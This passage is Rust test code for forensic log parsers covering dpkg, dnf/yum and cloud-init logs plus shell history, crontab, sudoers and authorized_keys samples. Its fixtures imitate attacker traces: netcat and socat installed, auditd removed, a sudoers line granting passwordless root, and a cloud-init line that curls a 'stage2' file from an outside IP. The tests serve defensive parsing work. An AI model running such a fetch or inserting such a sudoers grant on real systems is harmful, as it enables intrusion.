            2024-01-02 03:04:06 install netcat-openbsd:amd64 <none> 1.219-1\n\
            2024-01-02 03:04:06 status half-installed netcat-openbsd:amd64 1.219-1\n\
            2024-01-02 03:04:07 upgrade openssl:amd64 3.0.11-1 3.0.13-1\n\
            2024-01-02 03:04:08 remove auditd:amd64 1:3.0.9-1 <none>\n\
            2024-01-02 03:04:09 configure netcat-openbsd:amd64 1.219-1 <none>\n\
            garbage\n";
        let c = run(|c| dpkg(log, c));
        let acts: Vec<_> = c.events.iter().map(|e| e.action.as_str()).collect();
        assert_eq!(
            acts,
            [
                "dpkg.startup",
                "dpkg.install",
                "dpkg.status",
                "dpkg.upgrade",
                "dpkg.remove",
                "dpkg.configure"
            ]
        );
        let i = &c.events[1];
        assert_eq!(i.source, "packages");
        assert_eq!(i.time_us, us("2024-01-02T03:04:06Z"));
        assert_eq!(i.attribute("package"), Some("netcat-openbsd:amd64"));
        assert_eq!(i.attribute("version"), Some("1.219-1"));
        assert_eq!(i.attribute("old_version"), None);
        assert_eq!(i.attribute("time_zone"), Some("host local, read as UTC"));
        assert_eq!(c.events[2].attribute("status"), Some("half-installed"));
        assert_eq!(c.events[3].attribute("old_version"), Some("3.0.11-1"));
        assert_eq!(c.events[3].attribute("version"), Some("3.0.13-1"));
        assert_eq!(c.events[4].attribute("version"), Some("1:3.0.9-1"));
        assert_eq!(c.problems.len(), 1);
        assert_eq!(c.problems[0].locator, "line 7");
    }

    #[test]
    fn dnf_and_yum_logs() {
        let rpm = b"2024-01-02T03:04:05+0000 SUBDEBUG Installed: nmap-ncat-2:7.92-1.el9.x86_64\n\
            2024-01-02T03:04:06Z SUBDEBUG Upgraded: openssl-1:3.0.7-25.el9.x86_64\n\
            2024-01-02T05:04:07+0200 SUBDEBUG Erase: audit-3.0.7-104.el9.x86_64\n\
            2024-01-02T03:04:08+0000 DDEBUG Command: dnf -y install nmap-ncat\n\
            2024-01-02T03:04:09+0000 DEBUG some chatter\n\
            Traceback line without a time\n";
        let c = run(|c| dnf(rpm, &ctx(), c));
        assert!(c.problems.is_empty());
        let acts: Vec<_> = c
            .events
            .iter()
            .map(|e| (e.action.as_str(), e.time_us))
            .collect();
        assert_eq!(
            acts,
            [
                ("dnf.install", us("2024-01-02T03:04:05Z")),
                ("dnf.upgrade", us("2024-01-02T03:04:06Z")),
                ("dnf.remove", us("2024-01-02T03:04:07Z")),
                ("dnf.command", us("2024-01-02T03:04:08Z")),
            ]
        );
        let e = &c.events[0];
        assert_eq!(e.target.as_deref(), Some("nmap-ncat-2:7.92-1.el9.x86_64"));
        assert_eq!(e.attribute("package"), Some("nmap-ncat"));
        assert_eq!(e.attribute("version"), Some("2:7.92-1.el9"));
        assert_eq!(e.attribute("arch"), Some("x86_64"));
        assert_eq!(
            c.events[3].target.as_deref(),
            Some("dnf -y install nmap-ncat")
        );

        let yum = b"Jan 02 03:04:05 Installed: socat-1.7.3.2-2.el7.x86_64\nFeb 29 10:00:00 Erased: telnet\n";
        // Modified in March 2024: the lines are of 2024, a leap year.
        let march = FileContext {
            modified_us: Some(us("2024-03-01T00:00:00Z")),
            ..ctx()
        };
        let c = run(|c| dnf(yum, &march, c));
        assert_eq!(c.events.len(), 2);
        assert_eq!(c.events[0].time_us, us("2024-01-02T03:04:05Z"));
        assert_eq!(c.events[0].attribute("package"), Some("socat"));
        assert_eq!(c.events[1].action, "dnf.remove");
        assert_eq!(c.events[1].time_us, us("2024-02-29T10:00:00Z"));
        assert_eq!(c.events[1].locator, "line 2");
    }

    #[test]
    fn yum_log_years_come_from_the_bound_and_turn_over_in_the_file() {
        let yum = b"Dec 30 10:00:00 Installed: socat-1.7.3.2-2.el7.x86_64\n\
            Jan 02 09:00:00 Erased: telnet\n";
        // Collected in June 2026, the file last written in January 2026:
        // not this year's December (after both), last year's.
        let ctx = FileContext {
            year_hint: 2026,
            modified_us: Some(us("2026-01-02T09:00:01Z")),
            collected_us: Some(us("2026-06-01T00:00:00Z")),
        };
        let c = run(|c| dnf(yum, &ctx, c));
        assert_eq!(c.problems, vec![]);
        let times: Vec<i64> = c.events.iter().map(|e| e.time_us).collect();
        assert_eq!(
            times,
            [us("2025-12-30T10:00:00Z"), us("2026-01-02T09:00:00Z")]
        );
    }

    #[test]
    fn cloud_init_logs() {
        let log = b"2024-01-02 03:04:05,123 - util.py[DEBUG]: Cloud-init v. 23.4 running 'init-local'\n\
            2024-01-02 03:04:06,500 - cc_scripts_user.py[WARNING]: Failed to run module scripts-user\n\
            Traceback (most recent call last):\n\
            2024-01-02 03:04:07,000 - handlers.py[ERROR]: bad\n";
        let c = run(|c| cloud_init_named("/var/log/cloud-init.log", log, &ctx(), c));
        assert!(c.problems.is_empty());
        let acts: Vec<_> = c
            .events
            .iter()
            .map(|e| (e.action.as_str(), e.time_us, e.locator.as_str()))
            .collect();
        assert_eq!(
            acts,
            [
                ("cloud_init.debug", us("2024-01-02T03:04:05.123Z"), "line 1"),
                ("cloud_init.warning", us("2024-01-02T03:04:06.5Z"), "line 2"),
                ("cloud_init.error", us("2024-01-02T03:04:07Z"), "line 4"),
            ]
        );
        assert_eq!(c.events[1].attribute("module"), Some("cc_scripts_user.py"));
        assert_eq!(c.events[1].message, "Failed to run module scripts-user");
        assert_eq!(c.events[0].source, "cloud_init");
        // Unnamed, told by its first line.
        assert_eq!(run(|c| cloud_init(log, &ctx(), c)).events.len(), 3);

        let out = b"early output\n\
            Cloud-init v. 23.4 running 'init' at Tue, 02 Jan 2024 03:04:05 +0000. Up 5.12 seconds.\n\
            ci-info: +++++ Net device info +++++\n\
            \n\
            + curl http://203.0.113.9/stage2\n\
            Cloud-init v. 23.4 finished at Tue, 02 Jan 2024 03:05:00 +0000. Datasource DataSourceEc2.  Up 60.00 seconds\n";
        let c = run(|c| cloud_init_named("/var/log/cloud-init-output.log", out, &ctx(), c));
        let acts: Vec<_> = c
            .events
            .iter()
            .map(|e| (e.action.as_str(), e.time_us, e.locator.as_str()))
            .collect();
        assert_eq!(
            acts,
            [
                ("cloud_init.output", MTIME, "line 1"),
                ("cloud_init.stage", us("2024-01-02T03:04:05Z"), "line 2"),
                ("cloud_init.output", us("2024-01-02T03:04:05Z"), "line 3"),
                ("cloud_init.output", us("2024-01-02T03:04:05Z"), "line 5"),
                ("cloud_init.stage", us("2024-01-02T03:05:00Z"), "line 6"),
            ]
        );
        assert_eq!(c.events[0].attribute("dated"), Some("false"));
        assert_eq!(c.events[1].attribute("stage"), Some("init"));
        assert_eq!(c.events[3].attribute("dated_by"), Some("line 2"));
        assert_eq!(c.events[4].attribute("stage"), Some("finished"));
        assert_eq!(run(|c| cloud_init(out, &ctx(), c)).events.len(), 5);
    }

    #[test]
    fn formats_reach_their_parsers_through_parse_with() {
        let mut c = Collect::default();
        parse_with(
            Format::Passwd,
            "etc/passwd",
            b"root:x:0:0:root:/root:/bin/bash\n",
            &ctx(),
            &mut c,
        );
        assert_eq!(c.events[0].member, "etc/passwd");
        assert_eq!(c.events[0].action, "account.user");
    }

    const SAMPLES: [(Format, &[u8]); 6] = [
        (Format::ShellHistory, b"#1704164645\nls\n: 1704164645:0;echo a\\\nb\nplain\n"),
        (Format::Crontab, b"A=b\n*/5 * * * * root /bin/x\n@reboot /y\n"),
        (Format::SystemdUnit, b"[Service]\nExecStart=/bin/x \\\n y\nUser=root\n[Install]\nWantedBy=a\n"),
        (Format::AuthorizedKeys, b"from=\"a,b\",command=\"x\" ssh-ed25519 AAAAC3NzaC1lZDI1NTE5AAAAIFakeFakeFakeFakeFakeFakeFakeFakeFakeFakeFake c\n"),
        (Format::Sudoers, b"Defaults env_reset\nu ALL=(ALL) NOPASSWD: ALL\n@include x\n"),
        (Format::CloudInit, b"Cloud-init v. 1 running 'init' at Tue, 02 Jan 2024 03:04:05 +0000. Up\nout\n"),
    ];

    proptest! {
        #![proptest_config(ProptestConfig::with_cases(256))]

        /// Mutated samples of the text formats: whatever the bytes, the
        /// parsers return, quickly, with no more events than lines.
        #[test]
        fn text_parsers_never_panic(
            which in 0..SAMPLES.len(),
            edits in proptest::collection::vec((any::<usize>(), any::<u8>()), 0..16),
            cut in any::<usize>(),
        ) {
            let (format, sample) = SAMPLES[which];
            let mut bytes = sample.to_vec();
            for (at, b) in edits {
                let i = at % bytes.len();
                bytes[i] = b;
            }
            bytes.truncate(cut % (bytes.len() + 1));
            let start = std::time::Instant::now();
            for f in [format, Format::Passwd, Format::Group, Format::Dpkg, Format::Dnf] {
                let mut c = Collect::default();
                parse_with(f, "/home/x/.zsh_history", &bytes, &ctx(), &mut c);
                prop_assert!(c.events.len() <= bytes.split(|&b| b == b'\n').count());
            }
            prop_assert!(start.elapsed() < std::time::Duration::from_secs(2));
        }
    }
}
